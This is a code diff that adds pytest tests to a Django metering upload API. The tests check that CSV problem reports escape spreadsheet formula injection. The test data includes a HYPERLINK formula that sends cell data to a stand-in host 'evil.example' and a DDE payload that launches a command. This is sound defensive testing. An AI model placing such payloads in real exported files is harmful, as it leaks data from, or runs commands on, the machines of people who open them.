@@ -1,5 +1,7 @@
 """Upload and batch APIs: who may write where, the one error shape, the Celery path."""
 
+import csv
+import io
 import os
 import time
 from pathlib import Path
@@ -9,7 +11,13 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from rest_framework.test import APIClient
 
 from accounts.models import Membership
-from settlement.metering.models import Aggregator, AggregatorParticipant, Reading, Upload
+from settlement.metering.models import (
+    Aggregator,
+    AggregatorParticipant,
+    Reading,
+    Upload,
+    UploadProblem,
+)
 from tests.factories import MembershipFactory, UserFactory
 from tests.metering_fixtures import canonical
 
@@ -106,6 +114,59 @@ def test_a_rejected_upload_report_is_downloadable(site, site_owner):
     assert report["Content-Type"] == "text/csv"
     lines = b"".join(report.streaming_content).decode().splitlines()
     assert lines[1] == "FILE,file,file,the file is empty (0 bytes)"
+
+
+@pytest.mark.django_db
+def test_a_report_never_carries_a_spreadsheet_formula_from_the_file(site, site_owner):
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    rows = io.StringIO()
+    csv.writer(rows, lineterminator="\n").writerows(
+        [
+            [formula, "2024-05-22T17:00:00Z", "2024-05-22T17:15:00Z", "1", "", ""],
+            ["SITE-7", "2024-05-22T17:15:00Z", "2024-05-22T17:30:00Z", "@SUM(A1)", "", ""],
+            ["SITE-7", "2024-05-22T17:30:00Z", "2024-05-22T17:45:00Z", "-5", "", ""],
+        ]
+    )
+    content = canonical(rows.getvalue().strip())
+    upload_id = post_file(client_of(site_owner), content, site_id=site.pk).json()["upload_id"]
+
+    report = client_of(site_owner).get(f"/api/v1/metering/uploads/{upload_id}/report/")
+
+    cells = [
+        cell
+        for row in csv.reader(io.StringIO(b"".join(report.streaming_content).decode()))
+        for cell in row
+    ]
+    assert cells, "the report has rows"
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [cell for cell in cells if cell.startswith("-") and cell != "-5"]
+    assert any(formula in cell for cell in cells)
+
+
+@pytest.mark.django_db
+def test_a_report_cell_that_starts_like_a_formula_is_written_as_text(site, site_owner):
+    upload_id = post_file(client_of(site_owner), canonical(ROW), site_id=site.pk).json()[
+        "upload_id"
+    ]
+    # Report text that begins with what a sender wrote, as some formats' reasons do.
+    UploadProblem.objects.create(
+        upload_id=upload_id,
+        seq=1,
+        kind=UploadProblem.Kind.REJECTED,
+        location='=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+        field="@SUM(A1)",
+        reason="+1+cmd|' /C calc'!A0",
+    )
+
+    report = client_of(site_owner).get(f"/api/v1/metering/uploads/{upload_id}/report/")
+
+    rows = list(csv.reader(io.StringIO(b"".join(report.streaming_content).decode())))
+    assert rows[1] == [
+        "REJECTED",
+        '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+        "'@SUM(A1)",
+        "'+1+cmd|' /C calc'!A0",
+    ]
 
 
 @pytest.mark.django_db
